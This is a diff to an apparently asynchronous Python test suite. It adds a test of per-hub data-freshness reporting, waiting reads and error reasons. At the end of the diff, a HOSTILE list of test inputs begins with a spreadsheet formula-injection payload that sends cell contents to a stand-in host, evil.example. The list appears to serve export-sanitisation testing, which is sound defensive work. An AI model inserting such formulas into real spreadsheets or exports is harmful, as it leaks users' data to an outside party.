@@ -173,6 +173,52 @@ async def test_min_position_waits_for_a_write_that_lands_during_the_wait(
     assert answer.json()["freshness"]["position"] == written == last + 1
 
 
+async def test_a_hubs_own_reporting_says_how_far_it_goes_in_the_hubs_log(
+    service: ReportingApp, store: EventStore, rsettings: Settings
+) -> None:
+    """A hub's own reporting reads the hub's own stream: every answer has one hub, ``local``, at
+    the stream's position with no lag once caught up; ``min_position=<hub>:<version>`` waits
+    for it like the plain form, and a hub whose log it does not read is refused with a reason."""
+    hub = rsettings.hub
+    log = generate(hub, volunteers=20, teams=2, days=1)
+    last_seq: dict[str, int] = {}
+    last = await publish(store, log[:-1], last_seq)
+    await caught_up(service, last)
+    await service.links.poll()
+    async with client(service) as http:
+        body = (await http.get("/v1/summary", params={"min_position": f"{hub}:{last}"})).json()
+        assert body["freshness"]["hubs"] == [
+            {
+                "hub": hub,
+                "position": last,
+                "last_event_at": log[-2][1].recorded_at.isoformat(),
+                "lag": 0,
+                "source": "local",
+                "cut_off_since": None,
+            }
+        ]
+        waiting = asyncio.create_task(http.get("/v1/provinces", params={"min_position": f"{hub}:{last + 1}"}))
+        written = await publish(store, log[-1:], last_seq)
+        answer = await waiting
+        assert answer.status_code == 200
+        assert answer.json()["freshness"]["hubs"][0]["position"] == written
+        assert answer.headers["Vhub-Hub-Positions"] == f"{hub}:{written}"
+        behind = await http.get("/v1/summary", params={"min_position": f"{last},{hub}:{written + 5}"})
+        assert behind.status_code == 503
+        assert behind.json()["detail"] | {"message": ""} == {
+            "reason": "projection_behind",
+            "position": written,
+            "min_position": written + 5,
+            "hub": hub,
+            "message": "",
+        }
+        other = await http.get("/v1/summary", params={"min_position": "zz:1"})
+        assert other.status_code == 422
+        assert other.json()["detail"]["reason"] == "hub_not_read"
+        fresh = (await http.get("/v1/freshness")).json()
+        assert [(h["hub"], h["events_applied"]) for h in fresh["hubs"]] == [(hub, fresh["events_applied"])]
+
+
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
     "+1+2",
